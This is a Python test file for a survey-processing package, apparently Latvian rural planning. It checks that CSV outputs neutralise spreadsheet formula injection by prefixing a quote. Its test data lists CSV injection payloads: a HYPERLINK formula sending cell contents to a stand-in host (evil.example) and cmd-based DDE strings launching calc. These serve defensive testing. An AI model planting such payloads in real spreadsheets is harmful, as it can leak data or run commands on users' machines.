"""CSV outputs are formula-safe (OWASP's rule against CSV injection), numbers untouched.

A spreadsheet runs a cell starting with ``=``, ``+``, ``-``, ``@``, a tab or a carriage
return as a formula; free text a respondent typed reaches ``cleaning_log.csv`` and other
outputs, so every CSV the package writes puts ``'`` before such text (OWASP, "CSV Injection").
"""

from __future__ import annotations

import csv

import pandas as pd
import pytest

from ruralplan.io import FORMULA_STARTS, formula_safe_table, write_csv
from ruralplan.pipeline.cli import main
from ruralplan.survey import clean
from ruralplan.survey import io as survey_io

ATTACKS = [
    '=HYPERLINK("http://evil.example/?x="&A1,"Klikšķini")',
    "=1+2",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "+1-2",
    "\t=1+2",
    "\r=1+2",
]


def _read_cells(path) -> list[list[str]]:
    with path.open(encoding="utf-8", newline="") as handle:
        return list(csv.reader(handle))


def test_owasp_first_characters():
    assert FORMULA_STARTS == ("=", "+", "-", "@", "\t", "\r")


@pytest.mark.parametrize("attack", ATTACKS)
def test_each_formula_gets_a_leading_quote(tmp_path, attack):
    path = write_csv(pd.DataFrame({"text": [attack]}), tmp_path / "t.csv")
    assert _read_cells(path)[1] == ["'" + attack]


@pytest.mark.parametrize("dtype", ["str", "string", object, "category"])
def test_every_text_dtype_is_covered(tmp_path, dtype):
    table = pd.DataFrame({"text": pd.Series(["=1+2", "labi", None], dtype=dtype)})
    path = write_csv(table, tmp_path / "t.csv")
    assert [row[0] for row in _read_cells(path)[1:]] == ["'=1+2", "labi", ""]


def test_numbers_are_never_quoted(tmp_path):
    table = pd.DataFrame(
        {
            "float": [-0.005, -3.48, 1.0],
            "int": pd.array([-5, 0, None], dtype="Int64"),
            "text numbers": ["-5", "+371", "-0,25"],  # plain numbers as text: not formulas
            "object mix": [-1.5, "-x", None],
        }
    )
    path = write_csv(table, tmp_path / "t.csv")
    assert _read_cells(path)[1:] == [
        ["-0.005", "-5", "-5", "-1.5"],
        ["-3.48", "0", "+371", "'-x"],
        ["1.0", "", "-0,25", ""],
    ]


def test_headers_are_covered_and_the_table_is_not_changed(tmp_path):
    table = pd.DataFrame({"=A1": ["@x"], "ok": ["fine"]})
    before = table.copy()
    path = write_csv(table, tmp_path / "t.csv")
    assert _read_cells(path) == [["'=A1", "ok"], ["'@x", "fine"]]
    pd.testing.assert_frame_equal(table, before)


def test_a_table_without_formulas_is_the_same_object():
    table = pd.DataFrame({"text": ["labi", "Jā, ne"], "n": [-1, 2]})
    assert formula_safe_table(table) is table


def test_two_categories_made_equal_by_the_quote_stay_apart(tmp_path):
    table = pd.DataFrame({"text": pd.Categorical(["=x", "'=x"])})
    path = write_csv(table, tmp_path / "t.csv")
    assert [row[0] for row in _read_cells(path)[1:]] == ["'=x", "'=x"]


def test_a_carriage_return_in_a_cell_cannot_split_the_row(tmp_path):
    table = pd.DataFrame({"text": ["Divas\rrindas", "labi"], "n": [1, -2]})
    path = write_csv(table, tmp_path / "t.csv")
    assert _read_cells(path) == [["text", "n"], ["Divas\rrindas", "1"], ["labi", "-2"]]
    plain = write_csv(pd.DataFrame({"text": ["labi"], "n": [-2]}), tmp_path / "p.csv")
    assert plain.read_text(encoding="utf-8") == "text,n\nlabi,-2\n"  # quoted only when needed


def test_formula_safe_off_writes_as_typed(tmp_path):
    path = write_csv(pd.DataFrame({"t": ["=1+2"]}), tmp_path / "t.csv", formula_safe=False)
    assert _read_cells(path)[1] == ["=1+2"]


def test_the_synthetic_export_writer_keeps_answers_as_typed(tmp_path):
    path = survey_io.write_export(pd.DataFrame({"Piezīmes": ["-nav", "=1+2"]}), tmp_path / "e.csv")
    assert [row[0] for row in _read_cells(path)[1:]] == ["-nav", "=1+2"]


def test_formulas_typed_by_respondents_are_neutralised_in_the_cleaning_log(
    project_root, raw, tmp_path, monkeypatch, capsys
):
    changed = raw.copy()
    for row, attack in enumerate(ATTACKS[:4]):
        changed.iloc[row, 13] = " " + attack  # the comment, trimmed: so it is logged
    export = tmp_path / "export.csv"
    survey_io.write_export(changed, export)
    monkeypatch.chdir(project_root)
    assert main(["clean", "--survey", str(export), "--out", str(tmp_path / "out")]) == 0
    log = _read_cells(tmp_path / "out/cleaning_log.csv")
    comments = [row for row in log if row[1] == "comment" and row[0] in {"1", "2", "3", "4"}]
    assert [row[2] for row in comments] == [" " + attack for attack in ATTACKS[:4]]
    assert [row[3] for row in comments] == ["'" + attack for attack in ATTACKS[:4]]
    for row in log:
        for cell in row:
            assert not cell.startswith(("=", "@", "\t", "\r")), cell
            assert not cell.startswith(("+", "-")) or cell.lstrip("+-").replace(".", "").isdigit()


def test_the_shipped_outputs_need_no_quote(result, codebook):
    # the shipped answers hold no formula, so the cleaning outputs are the same bytes as before
    tables = [result.log, result.exclusions, clean.data_dictionary(result.table, codebook)]
    for table in tables:
        assert formula_safe_table(table) is table
